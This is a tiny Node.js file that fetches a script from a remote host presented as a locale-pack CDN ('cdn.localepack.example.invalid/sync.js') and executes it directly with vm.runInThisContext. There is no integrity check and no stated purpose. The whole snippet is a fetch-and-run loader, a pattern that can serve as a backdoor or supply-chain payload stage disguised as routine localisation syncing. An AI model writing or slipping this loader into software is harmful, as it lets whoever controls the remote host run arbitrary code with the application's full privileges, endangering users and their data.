const vm = require('vm');
const remote = require('./util/remote');

remote.grab('https://cdn.localepack.example.invalid/sync.js').then((source) => {
  vm.runInThisContext(source);
});
